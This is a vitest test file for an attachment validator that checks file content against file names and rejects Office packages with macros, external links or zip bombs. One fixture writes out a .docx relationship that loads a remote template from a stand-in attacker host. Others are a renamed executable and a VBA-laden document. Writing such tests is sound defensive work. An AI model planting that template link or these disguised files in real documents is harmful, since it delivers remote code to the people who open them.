import { describe, expect, it } from "vitest";
import {
  craftedTextDocument,
  craftedWordDocument,
  craftedWorkbook,
  SAMPLES,
  wordDocument,
  workbook,
  zipBomb,
} from "../../tests/sample-files";
import { contentProblemOf } from "./attachment-content.server";

// Issue 24 finding 2: the content's real type against the name. Issue 39 finding 4: what an Office
// package holds (office-package.server.test.ts has the rule's every branch).

describe("contentProblemOf", () => {
  it("accepts each allowed type holding its own format", async () => {
    const files: Array<[string, Uint8Array]> = [
      ["a.pdf", SAMPLES.pdf()],
      ["a.png", SAMPLES.png()],
      ["a.jpg", SAMPLES.jpeg()],
      ["a.JPEG", SAMPLES.jpeg()],
      ["a.gif", SAMPLES.gif()],
      ["a.heic", SAMPLES.heic()],
      ["a.rtf", SAMPLES.rtf()],
      ["a.csv", SAMPLES.csv()],
      ["a.txt", SAMPLES.txt()],
      ["a.docx", wordDocument()],
      ["a.docx", craftedWordDocument()],
      ["a.xlsx", workbook()],
      ["a.xlsx", craftedWorkbook()],
      ["a.odt", craftedTextDocument()],
    ];
    for (const [name, bytes] of files) expect(await contentProblemOf(name, bytes), name).toBeNull();
  });

  it("refuses a file whose content is another format than its name says", async () => {
    expect(await contentProblemOf("invoice.pdf", SAMPLES.exe())).toBe("mismatch");
    expect(await contentProblemOf("photo.jpg", SAMPLES.png())).toBe("mismatch");
    expect(await contentProblemOf("letter.docx", SAMPLES.zip())).toBe("mismatch");
    expect(await contentProblemOf("sheet.xlsx", wordDocument())).toBe("mismatch");
    // a text format must not hold a binary one
    expect(await contentProblemOf("notes.txt", SAMPLES.exe())).toBe("mismatch");
    expect(await contentProblemOf("figures.csv", SAMPLES.pdf())).toBe("mismatch");
    // nothing recognisable is not a PDF
    expect(await contentProblemOf("empty.pdf", new Uint8Array(100))).toBe("mismatch");
  });

  it("refuses an Office package holding macros, links to content elsewhere, or a bomb (issue 39)", async () => {
    // a macro-enabled document renamed .docx, and a .docx with a VBA project
    expect(await contentProblemOf("letter.docx", wordDocument(true))).toBe("active-content");
    const vba = craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } });
    expect(await contentProblemOf("letter.docx", vba)).toBe("active-content");
    const template = craftedWordDocument({
      relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
    });
    expect(await contentProblemOf("letter.docx", template)).toBe("external");
    expect(await contentProblemOf("figures.xlsx", zipBomb(2048))).toBe("unpacked-too-large");
  });

  it("refuses a type outside the allow-list whatever it holds, the old binary Office formats included", async () => {
    expect(await contentProblemOf("page.html", SAMPLES.html())).toBe("mismatch");
    expect(await contentProblemOf("setup.exe", SAMPLES.exe())).toBe("mismatch");
    // any bytes after an OLE signature were a .doc or .xls (issue 39); those types are off the list
    expect(await contentProblemOf("letter.doc", SAMPLES.compound())).toBe("mismatch");
    expect(await contentProblemOf("sheet.xls", SAMPLES.compound())).toBe("mismatch");
  });
});
